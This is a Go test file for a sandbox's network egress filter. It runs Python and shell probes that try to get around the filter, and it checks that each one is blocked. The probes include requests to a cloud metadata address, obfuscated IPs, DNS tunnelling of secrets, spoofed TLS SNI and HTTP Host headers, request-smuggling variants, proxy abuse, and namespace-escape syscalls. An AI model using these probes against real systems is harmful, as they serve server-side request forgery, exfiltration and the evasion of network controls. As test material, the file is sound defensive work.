package stage

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/assent-dev/assent/sandbox"
)

// A canary is everything outside that a command must not reach: servers on this machine's own
// loopback that record what comes.
type canary struct {
	mu   sync.Mutex
	came []string
}

func (c *canary) saw(what string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.came = append(c.came, what)
}

func (c *canary) listen(t *testing.T, network, address string) string {
	t.Helper()
	if strings.HasPrefix(network, "udp") {
		conn, err := net.ListenPacket(network, address)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { conn.Close() })
		go func() {
			buf := make([]byte, 1)
			for {
				if _, _, err := conn.ReadFrom(buf); err != nil {
					return
				}
				c.saw(network + " " + address)
			}
		}()
		return conn.LocalAddr().String()
	}
	l, err := net.Listen(network, address)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			c.saw(network + " " + address)
			conn.Close()
		}
	}()
	return l.Addr().String()
}

// A recorder is the server behind the only host that is allowed. It keeps what it is sent, and
// answers each time that something comes as a server of HTTP would. The word CANARY in what it
// was sent is something that was meant for another host.
type recorder struct {
	address string

	mu   sync.Mutex
	sent bytes.Buffer
}

func newRecorder(t *testing.T) *recorder {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	r := &recorder{address: l.Addr().String()}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go r.serve(c)
		}
	}()
	return r
}

func (r *recorder) serve(c net.Conn) {
	defer c.Close()
	buf := make([]byte, 64<<10)
	for {
		n, err := c.Read(buf)
		if err != nil {
			return
		}
		r.mu.Lock()
		r.sent.Write(buf[:n])
		r.mu.Unlock()
		if bytes.Contains(buf[:n], []byte("/redirect")) {
			fmt.Fprint(c, "HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254/latest\r\nContent-Length: 0\r\n\r\n")
		} else if bytes.Contains(buf[:n], []byte("/switch")) {
			fmt.Fprint(c, "HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n")
		} else {
			fmt.Fprint(c, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
		}
	}
}

func (r *recorder) take() string {
	r.mu.Lock()
	defer r.mu.Unlock()
	defer r.sent.Reset()
	return r.sent.String()
}

// preamble is what each probe in Python has.
const preamble = `
import os, socket, ssl, struct, sys, ctypes
socket.setdefaulttimeout(10)
def answer(c, *parts):
    "sends parts, each when the one before was answered, and prints what comes"
    for p in parts:
        try:
            c.sendall(p)
            got = c.recv(65536)
        except OSError as e:
            print("cut:", e.strerror); return
        if not got: print("end"); return
        print(got.decode("latin1").split("\r\n")[0])
def good(port=80): return socket.create_connection(("good.example", port))
def http(*parts): answer(good(), *[p.encode() for p in parts])
def to(address, port, family=socket.AF_INET, proto=0):
    try:
        c = socket.socket(family, socket.SOCK_STREAM, proto); c.settimeout(10); c.connect((address, port)); answer(c, b"CANARY\n")
    except ConnectionResetError: print("cut")
    except OSError as e: print("failed:", e.strerror)
def hello(name):
    o = ssl.MemoryBIO(); ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
    try: ctx.wrap_bio(ssl.MemoryBIO(), o, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError: pass
    return o.read()
def dns(name, kind=1, server="127.0.0.53", proto="udp"):
    q = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p for p in name.encode().split(b".")) + b"\0" + struct.pack(">HH", kind, 1)
    try:
        if proto == "udp":
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10); s.connect((server, 53)); s.send(q); r = s.recv(512)
        else:
            s = socket.create_connection((server, 53)); s.sendall(struct.pack(">H", len(q)) + q); r = s.recv(512)[2:]
        if not r: print("failed: nothing"); return
        print("code", r[3] & 15, "answers", struct.unpack(">H", r[6:8])[0], ".".join(str(b) for b in r[-4:]) if struct.unpack(">H", r[6:8])[0] else "")
    except OSError as e: print("failed:", e.strerror)
def call(number, *args):
    libc = ctypes.CDLL(None, use_errno=True)
    r = libc.syscall(number, *args)
    print("ok" if r >= 0 else "failed: " + os.strerror(ctypes.get_errno()))
GET = "GET / HTTP/1.1\r\nHost: good.example\r\n\r\n"
BAD = "GET / HTTP/1.1\r\nHost: CANARY.example\r\n\r\n"
`

// A probe is a way around the network that is tried.
type probe struct {
	name   string
	script string   // in Python, or for the shell if it begins with $
	asked  []string // the hosts that are asked for, exactly
	want   string   // in what it prints
	cut    string   // in the reason for which a connection was cut
}

var probes = []probe{
	// Addresses and ports.
	{name: "another port", script: `to("10.1.2.3", 9999)`, asked: []string{"10.1.2.3:9999"}, want: "cut"},
	{name: "port 1", script: `to("10.1.2.3", 1)`, asked: []string{"10.1.2.3:1"}, want: "cut"},
	{name: "another port of the allowed name", script: `to("good.example", 81)`, asked: []string{"good.example:81"}, want: "cut"},
	{name: "IPv6", script: `to("2001:db8::5", 9999, socket.AF_INET6)`, asked: []string{"[2001:db8::5]:9999"}, want: "cut"},
	{name: "link-local of IPv6", script: `to("fe80::1%lo", 80, socket.AF_INET6)`, want: "failed"},
	{name: "an IPv4 address in IPv6", script: `to("::ffff:10.1.2.3", 82, socket.AF_INET6)`, asked: []string{"10.1.2.3:82"}, want: "cut"},
	{name: "a decimal address", script: `$curl -sS http://167838211/`, asked: []string{"10.1.2.3:80"}},
	{name: "a hexadecimal address", script: `$curl -sS http://0x0a010203/`, asked: []string{"10.1.2.3:80"}},
	{name: "an octal address", script: `$curl -sS http://012.01.02.03/`, asked: []string{"10.1.2.3:80"}},
	{name: "a metadata address", script: `to("169.254.169.254", 80)`, asked: []string{"169.254.169.254:80"}, want: "cut"},
	{name: "a redirect to a metadata address", script: `$curl -sSL http://good.example/redirect`, asked: []string{"169.254.169.254:80", "good.example:80"}},
	{name: "loopback", script: `to("127.0.0.1", CANARYPORT)`, want: "failed: Connection refused"},
	{name: "another loopback", script: `to("127.1.2.3", CANARYPORT)`, want: "failed: Connection refused"},
	{name: "loopback of IPv6", script: `to("::1", CANARYPORT, socket.AF_INET6)`, want: "failed: Connection refused"},
	{name: "no address", script: `to("0.0.0.0", CANARYPORT)`, want: "failed: Connection refused"},
	{name: "loopback in IPv6", script: `to("::ffff:127.0.0.1", CANARYPORT, socket.AF_INET6)`, want: "failed: Connection refused"},
	{name: "localhost", script: `to("localhost", CANARYPORT)`, want: "failed: Connection refused"},
	{name: "a name below localhost", script: `to("x.localhost", CANARYPORT)`, want: "failed: Connection refused"},
	{name: "an address that no name has", script: `to("198.18.77.1", 80)`, want: "cut", cut: "198.18.77.1"},
	{name: "the port where connections are led", script: `to("127.0.0.1", 65321)`, want: "cut"},
	{name: "that port by another address", script: `to("10.1.2.3", 65321)`, asked: []string{"10.1.2.3:65321"}, want: "cut"},

	// Other protocols.
	{name: "UDP to loopback", script: `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("127.0.0.1", CANARYPORT)); s.send(b"x")
try: s.recv(1)
except OSError as e: print(e.strerror)`, want: "Connection refused"},
	{name: "QUIC", script: `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("10.1.2.3", 443)); s.send(b"\xc0" * 1200)
try: s.recv(1)
except OSError as e: print(e.strerror)`, want: "Connection refused"},
	{name: "UDP of IPv6", script: `
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.connect(("2001:db8::5", 443)); s.send(b"x")
try: s.recv(1)
except OSError as e: print(e.strerror)`, want: "Connection refused"},
	{name: "MPTCP", script: `to("10.1.2.3", 83, socket.AF_INET, 262)`, asked: []string{"10.1.2.3:83"}, want: "cut"},
	{name: "MPTCP to the allowed host, for another", script: `
c = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); c.connect(("good.example", 80)); answer(c, BAD.encode())`,
		asked: []string{"good.example:80"}, want: "cut", cut: `"CANARY.example"`},
	{name: "MPTCP to loopback", script: `to("127.0.0.1", CANARYPORT, socket.AF_INET, 262)`, want: "failed: Connection refused"},
	{name: "SCTP", script: `to("10.1.2.3", 84, socket.AF_INET, 132)`, want: "failed"},
	{name: "DCCP", script: `
try: c = socket.socket(socket.AF_INET, 6, 33); c.connect(("10.1.2.3", 84)); print("connected")
except OSError as e: print("failed", e.strerror)`, want: "failed"},
	{name: "data in the first packet", script: `
c = socket.socket(); c.settimeout(None); print(c.sendto(b"CANARY\n", 0x20000000, ("10.1.2.3", 85))); answer(c, b"x")`, asked: []string{"10.1.2.3:85"}, want: "cut"},
	{name: "data in the first packet, for another host", script: `
c = socket.socket(); c.settimeout(None); a = socket.gethostbyname("good.example"); c.sendto(BAD.encode(), 0x20000000, (a, 80)); answer(c, b"x")`,
		asked: []string{"good.example:80"}, want: "cut", cut: `"CANARY.example"`},
	{name: "fast open", script: `
c = socket.socket(); c.setsockopt(6, 30, 1); c.connect((socket.gethostbyname("good.example"), 80)); answer(c, BAD.encode())`,
		asked: []string{"good.example:80"}, want: "cut", cut: `"CANARY.example"`},
	{name: "a raw socket", script: `
try: socket.socket(socket.AF_INET, socket.SOCK_RAW, 6); print("made")
except OSError as e: print("failed:", e.strerror)`, want: "failed: Operation not permitted"},
	{name: "a packet socket", script: `
try: socket.socket(17, socket.SOCK_RAW, 0); print("made")
except OSError as e: print("failed:", e.strerror)`, want: "failed: Address family not supported"},
	{name: "a virtual machine's socket", script: `
try: socket.socket(40, socket.SOCK_STREAM, 0); print("made")
except OSError as e: print("failed:", e.strerror)`, want: "failed: Address family not supported"},
	{name: "a unix socket of the host", script: `
try: c = socket.socket(socket.AF_UNIX); c.connect("host.sock"); print("connected")
except OSError as e: print("failed:", e.strerror)`, want: "failed: Address family not supported"},
	{name: "an abstract socket of the host", script: `
try: c = socket.socket(socket.AF_UNIX); c.connect("\0assent-stage-canary-PID"); print("connected")
except OSError as e: print("failed:", e.strerror)`, want: "failed: Address family not supported"},

	// Names.
	{name: "another server for names", script: `dns("good.example", server="9.9.9.10")`, want: "failed: Connection refused"},
	{name: "another server for names by TCP", script: `dns("good.example", server="9.9.9.10", proto="tcp")`, asked: []string{"9.9.9.10:53"}, want: "failed"},
	{name: "a tunnel of names", script: `dns("CANARY-secret.tunnel.example", 16)`, want: "code 0 answers 0"},
	{name: "a tunnel of names by TCP", script: `dns("CANARY-secret.tunnel.example", 1, proto="tcp")`, want: "code 0 answers 1 198.18."},
	{name: "keys for an encrypted greeting", script: `dns("good.example", 65)`, want: "code 0 answers 0"},
	{name: "an address of IPv6 for a name", script: `dns("good.example", 28)`, want: "code 0 answers 0"},
	{name: "an address as a name", script: `dns("127.0.0.1")`, want: "code 3"},
	{name: "a hexadecimal address as a name", script: `dns("0x7f000001")`, want: "code 3"},
	{name: "an address in part as a name", script: `dns("good.0x7f")`, want: "code 3"},
	{name: "a name with a space", script: `dns("good.example CANARY")`, want: "code 3"},
	{name: "a name that means loopback elsewhere", script: `to("127.0.0.1.rebind.example", 80)`, asked: []string{"127.0.0.1.rebind.example:80"}, want: "cut"},

	// What is said to the allowed host. First what must work.
	{name: "a request", script: `http(GET)`, asked: []string{"good.example:80"}, want: "200 OK"},
	{name: "two requests", script: `http(GET, GET)`, asked: []string{"good.example:80"}, want: "200 OK\nHTTP/1.1 200 OK"},
	{name: "a request in pieces", script: `
c = good(); c.setsockopt(6, 1, 1)
for b in GET[:-1].encode(): c.sendall(bytes([b]))
answer(c, b"\n")`, asked: []string{"good.example:80"}, want: "200 OK"},
	{name: "a request in full", script: `http("GET http://good.example/ HTTP/1.1\r\nHost: good.example:80\r\n\r\n")`, asked: []string{"good.example:80"}, want: "200 OK"},
	{name: "a body in chunks, then a request", script: `http("POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n", GET)`,
		asked: []string{"good.example:80"}, want: "200 OK\nHTTP/1.1 200 OK"},
	{name: "a websocket", script: `http("GET /switch HTTP/1.1\r\nHost: good.example\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n", "\x81\x05hello")`,
		asked: []string{"good.example:80"}, want: "101 Switching Protocols\nHTTP/1.1 200 OK"},
	{name: "a greeting in pieces", script: `
c = good(443); c.setsockopt(6, 1, 1); h = hello("good.example")
for b in h[:-1]: c.sendall(bytes([b]))
answer(c, h[-1:])`, asked: []string{"good.example:443"}, want: "200 OK"},
	{name: "a greeting in two records", script: `
h = hello("good.example"); b = h[5:]
answer(good(443), b"\x16\x03\x01" + struct.pack(">H", 9) + b[:9] + b"\x16\x03\x01" + struct.pack(">H", len(b) - 9) + b[9:])`,
		asked: []string{"good.example:443"}, want: "200 OK"},

	{name: "a greeting for another host", script: `answer(good(443), hello("canary.example"))`, asked: []string{"good.example:443"}, want: "cut", cut: `"canary.example"`},
	{name: "a greeting for another host on another connection's address", script: `
a = socket.gethostbyname("good.example"); c = socket.create_connection((a, 443)); answer(c, hello("canary.example"))`,
		asked: []string{"good.example:443"}, want: "cut", cut: `"canary.example"`},
	{name: "a greeting without a name", script: `answer(good(443), hello(None))`, asked: []string{"good.example:443"}, want: "cut", cut: "without the name"},
	{name: "a greeting for another host in pieces", script: `
c = good(443); c.setsockopt(6, 1, 1)
try:
    for b in hello("canary.example"): c.sendall(bytes([b]))
except OSError: pass
answer(c, b"x")`, asked: []string{"good.example:443"}, want: "cut", cut: `"canary.example"`},
	{name: "a greeting for another host in two records", script: `
h = hello("canary.example"); b = h[5:]
answer(good(443), b"\x16\x03\x01" + struct.pack(">H", 60) + b[:60] + b"\x16\x03\x01" + struct.pack(">H", len(b) - 60) + b[60:])`,
		asked: []string{"good.example:443"}, want: "cut", cut: `"canary.example"`},
	{name: "something that begins like TLS", script: `answer(good(443), b"\x16GET / HTTP/1.1\r\nHost: CANARY.example\r\n\r\n")`, asked: []string{"good.example:443"}, want: "cut", cut: "begins like TLS"},
	{name: "TLS of before", script: `answer(good(443), b"\x80\x2e\x01\x03\x01CANARY")`, asked: []string{"good.example:443"}, want: "cut", cut: "without a name"},
	{name: "a request for another host", script: `http(BAD)`, asked: []string{"good.example:80"}, want: "cut", cut: `good.example, and sent a request for "CANARY.example"`},
	{name: "a second request for another host", script: `http(GET, BAD)`, asked: []string{"good.example:80"}, want: "200 OK\ncut", cut: `"CANARY.example"`},
	{name: "a second request behind the first", script: `http(GET + BAD, "")`, asked: []string{"good.example:80"}, cut: `"CANARY.example"`},
	{name: "a request in full for another host", script: `http("GET http://CANARY.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n")`,
		asked: []string{"good.example:80"}, want: "cut", cut: `"CANARY.example"`},
	{name: "a request in full that looks like it", script: `http("GET http://good.example@CANARY.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n")`,
		asked: []string{"good.example:80"}, want: "cut", cut: "CANARY.example"},
	{name: "two Hosts", script: `http("GET / HTTP/1.1\r\nHost: good.example\r\nHost: CANARY.example\r\n\r\n")`, asked: []string{"good.example:80"}, want: "cut", cut: "more than one Host"},
	{name: "no Host", script: `http("GET /CANARY HTTP/1.0\r\n\r\n")`, asked: []string{"good.example:80"}, want: "cut", cut: "no Host"},
	{name: "a Host that goes on in the next line", script: `http("GET / HTTP/1.1\r\nHost: good.example\r\n .CANARY.example\r\n\r\n")`, asked: []string{"good.example:80"}, want: "cut", cut: "malformed"},
	{name: "a space before the colon", script: `http("GET / HTTP/1.1\r\nHost : CANARY.example\r\nHost: good.example\r\n\r\n")`, asked: []string{"good.example:80"}, want: "cut", cut: "malformed"},
	{name: "a return in a line", script: `http("GET / HTTP/1.1\r\nHost: good.example\rHost: CANARY.example\r\n\r\n")`, asked: []string{"good.example:80"}, want: "cut", cut: "control"},
	{name: "lines that end in two ways", script: `http("GET / HTTP/1.1\r\nX: y\nHost: CANARY.example\r\nHost: good.example\r\n\r\n")`, asked: []string{"good.example:80"}, want: "cut", cut: "control"},
	{name: "a tab between the words", script: `http("GET\t/\tHTTP/1.1\r\nHost: CANARY.example\r\n\r\n")`, asked: []string{"good.example:80"}, want: "cut", cut: "malformed"},
	{name: "empty lines before", script: `http("\r\n\r\n" + BAD)`, asked: []string{"good.example:80"}, want: "cut", cut: `"CANARY.example"`},
	{name: "a method of its own", script: `http("SSH-2.0-x / HTTP/1.1\r\nHost: CANARY.example\r\n\r\n")`, asked: []string{"good.example:80"}, want: "cut", cut: `"CANARY.example"`},
	{name: "a request without a version", script: `http("GET http://CANARY.example/\r\n")`, asked: []string{"good.example:80"}, want: "cut", cut: "without a version"},
	{name: "a length and chunks", script: `http("POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + BAD)`,
		asked: []string{"good.example:80"}, want: "cut", cut: "more than one length"},
	{name: "two lengths", script: `http("POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 0\r\nContent-Length: 60\r\n\r\n" + BAD)`,
		asked: []string{"good.example:80"}, want: "cut", cut: "more than one length"},
	{name: "a length with a sign", script: `http("POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: +0\r\n\r\n" + BAD)`, asked: []string{"good.example:80"}, want: "cut", cut: "length"},
	{name: "an unknown coding", script: `http("POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: xchunked\r\n\r\n" + BAD)`, asked: []string{"good.example:80"}, want: "cut", cut: "coding"},
	{name: "chunks in the old version", script: `http("POST / HTTP/1.0\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + BAD)`, asked: []string{"good.example:80"}, want: "cut", cut: "coding"},
	{name: "a chunk that is malformed", script: `http("POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\n0 ;x\r\n\r\n" + BAD)`, asked: []string{"good.example:80"}, cut: "chunks"},
	{name: "a chunk that ends in a line feed", script: `http("POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\n0\n\n" + BAD)`, asked: []string{"good.example:80"}, cut: "chunks"},
	{name: "a request behind chunks", script: `http("POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + BAD, "")`, asked: []string{"good.example:80"}, cut: `"CANARY.example"`},
	{name: "HTTP/2", script: `http("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nCANARY")`, asked: []string{"good.example:80"}, want: "cut", cut: "HTTP/2.0"},
	{name: "HTTP/2 by upgrade", script: `http("GET /switch HTTP/1.1\r\nHost: good.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nCANARY")`,
		asked: []string{"good.example:80"}, want: "101 Switching Protocols\ncut", cut: "HTTP/2.0"},
	{name: "HTTP/2 among upgrades", script: `http("GET /switch HTTP/1.1\r\nHost: good.example\r\nConnection: Upgrade\r\nUpgrade: websocket, h2c\r\n\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nCANARY")`,
		asked: []string{"good.example:80"}, want: "101 Switching Protocols\ncut", cut: "HTTP/2.0"},
	{name: "a websocket that the host does not want", script: `http("GET / HTTP/1.1\r\nHost: good.example\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n", BAD)`,
		asked: []string{"good.example:80"}, want: "200 OK\ncut", cut: `"CANARY.example"`},
	{name: "a websocket and a request at once", script: `http("GET / HTTP/1.1\r\nHost: good.example\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n" + BAD, "")`,
		asked: []string{"good.example:80"}, cut: `"CANARY.example"`},
	{name: "a websocket as the second request", script: `http(GET, "GET /switch HTTP/1.1\r\nHost: good.example\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n", BAD)`,
		asked: []string{"good.example:80"}, want: "cut", cut: `"CANARY.example"`},
	{name: "CONNECT", script: `http("CONNECT CANARY.example:443 HTTP/1.1\r\nHost: good.example\r\n\r\n")`, asked: []string{"good.example:80"}, want: "cut", cut: "CONNECT"},

	// Proxies and the namespace itself.
	{name: "proxies in the environment", script: `$http_proxy=http://127.0.0.1:CANARYPORT https_proxy=socks5h://127.0.0.1:CANARYPORT ALL_PROXY=http://[::1]:CANARYPORT sh -c 'curl -sS http://x.example; curl -sS https://x.example; true'`, want: "connect"},
	{name: "a proxy by address", script: `$curl -sS -x http://10.1.2.3:3128 http://CANARY.example/`, asked: []string{"10.1.2.3:3128"}},
	{name: "the allowed host as a proxy", script: `$curl -sS -p -x http://good.example:80 http://CANARY.example/`, asked: []string{"good.example:80"}, cut: "CONNECT"},
	{name: "routes", script: `$ip route del table local local default dev lo; ip route add default via 127.0.0.1; ip route replace local 10.0.0.0/8 dev lo; ip route flush table local; curl -sS http://10.1.2.3:86/`,
		asked: []string{"10.1.2.3:86"}, want: "Operation not permitted"},
	{name: "addresses", script: `$ip addr add 10.9.9.9/8 dev lo; ip link set lo down; ip link add x type dummy; curl -sS http://10.1.2.3:87/`, asked: []string{"10.1.2.3:87"}, want: "Operation not permitted"},
	{name: "the packet filter", script: `
try: socket.socket(16, socket.SOCK_RAW, 12); print("made")
except OSError as e: print("failed:", e.strerror)`, want: "failed"},
	{name: "settings of the kernel", script: `$echo 1 > /proc/sys/net/ipv4/ip_forward; echo 1 > /proc/sys/net/ipv4/conf/all/route_localnet; echo 0 > /proc/sys/net/ipv4/ip_unprivileged_port_start`, want: "Read-only file system"},
	{name: "marks and devices", script: `
c = socket.socket()
for o, v in ((36, struct.pack("i", 1)), (12, struct.pack("i", 7))):
    try: c.setsockopt(1, o, v); print("set", o)
    except OSError as e: print("failed:", e.strerror)
try: c.setsockopt(0, 19, 1); print("set transparent")
except OSError as e: print("failed:", e.strerror)`, want: "failed: Operation not permitted"},
	{name: "a route in the packet", script: `
c = socket.socket(); c.settimeout(2)
try: c.setsockopt(0, 4, b"\x83\x0b\x04" + socket.inet_aton("127.0.0.1") + socket.inet_aton("10.1.2.3") + b"\0"); c.connect(("127.0.0.1", CANARYPORT)); print("connected")
except OSError as e: print("failed:", e.strerror or e)`, want: "failed"},
	{name: "a namespace of its own", script: `call(272, 0x40000000); call(272, 0x10000000); call(272, 0x50000000)`, want: "failed: Operation not permitted\nfailed: Operation not permitted\nfailed: Operation not permitted"},
	{name: "the namespace of another process", script: `call(308, os.open("/proc/1/ns/net", 0), 0)`, want: "failed: Operation not permitted"},
	{name: "open files", script: `print(sorted(os.listdir("/proc/self/fd")))`, want: "['0', '1', '2', '3']"},
	{name: "capabilities", script: `$test $(grep Cap /proc/self/status | sort -u -k2,2 | wc -l) = 1 && grep CapBnd:.0000000000000000 /proc/self/status`, want: "Cap"},
	{name: "to be the synthetic address", script: `
a = socket.gethostbyname("good.example"); l = socket.create_server((a, 8443)); to(a, 8443)`, asked: []string{"good.example:8443"}, want: "cut"},
	{name: "the same port again", script: `
a = socket.gethostbyname("good.example")
for dst in ((a, 80), ("10.1.2.3", 80), (a, 80)):
    c = socket.socket(); c.setsockopt(1, 2, 1); c.bind(("127.0.0.1", 40000))
    try: c.connect(dst); answer(c, GET.encode())
    except ConnectionResetError: print("cut")
    c.setsockopt(1, 13, struct.pack("ii", 1, 0)); c.close()`, asked: []string{"10.1.2.3:80", "good.example:80"}, want: "200 OK\ncut"},
	{name: "a server of its own", script: `
l = socket.create_server(("127.0.0.1", 8080)); c = socket.create_connection(("localhost", 8080)); s, _ = l.accept(); s.sendall(b"own"); print(c.recv(3))`, want: "own"},
	{name: "a server of its own by IPv6", script: `
l = socket.create_server(("::1", 8080), family=socket.AF_INET6); c = socket.create_connection(("::1", 8080)); s, _ = l.accept(); s.sendall(b"own"); print(c.recv(3))`, want: "own"},
}

// TestProbes tries each way around. Nothing outside is reached but the allowed host, and that
// only with what is for it; each host that a probe wants is asked for as it is.
func TestProbes(t *testing.T) {
	var outside canary
	at := outside.listen(t, "tcp4", "127.0.0.1:0")
	_, port, err := net.SplitHostPort(at)
	if err != nil {
		t.Fatal(err)
	}
	outside.listen(t, "udp4", "127.0.0.1:"+port)
	outside.listen(t, "tcp6", "[::1]:"+port)
	outside.listen(t, "unix", fmt.Sprintf("@assent-stage-canary-%d", os.Getpid()))
	good := newRecorder(t)
	s := newFixture(t, map[string]string{"good.example:80": good.address, "good.example:443": good.address})
	outside.listen(t, "unix", filepath.Join(s.root, "host.sock"))
	for _, p := range probes {
		t.Run(strings.ReplaceAll(p.name, " ", "-"), func(t *testing.T) {
			script := strings.NewReplacer("CANARYPORT", port, "PID", fmt.Sprint(os.Getpid())).Replace(p.script)
			c := s.command("")
			if shell, ok := strings.CutPrefix(script, "$"); ok {
				c.Argv = []string{"/bin/sh", "-c", shell}
			} else {
				c.Argv = []string{"/usr/bin/python3", "-c", preamble + script}
			}
			var out bytes.Buffer
			c.Stdout, c.Stderr = &out, &out
			ctx, cancel := context.WithTimeout(t.Context(), patience)
			defer cancel()
			if exit, err := sandbox.Run(ctx, s.runner, c); err != nil || exit.Ended != "" {
				t.Fatalf("%+v %v\n%s", exit, err, out.String())
			}
			asked, ended := s.take()
			if !slices.Equal(asked, p.asked) {
				t.Errorf("asked for %q, not for %q", asked, p.asked)
			}
			if !strings.Contains(out.String(), p.want) {
				t.Errorf("printed %q, without %q", out.String(), p.want)
			}
			var cut []string
			for _, c := range ended {
				if c.Err != nil && c.Err != errNotAllowed {
					cut = append(cut, c.Err.Error())
				}
			}
			if text := strings.Join(cut, "\n"); !strings.Contains(text, p.cut) || p.cut == "" && text != "" {
				t.Errorf("cut for %q, not for %q", text, p.cut)
			}
			if sent := good.take(); strings.Contains(strings.ToUpper(sent), "CANARY") {
				t.Errorf("the allowed host was sent %q", sent)
			}
		})
	}
	outside.mu.Lock()
	defer outside.mu.Unlock()
	if len(outside.came) > 0 {
		t.Errorf("reached from inside: %q", outside.came)
	}
}
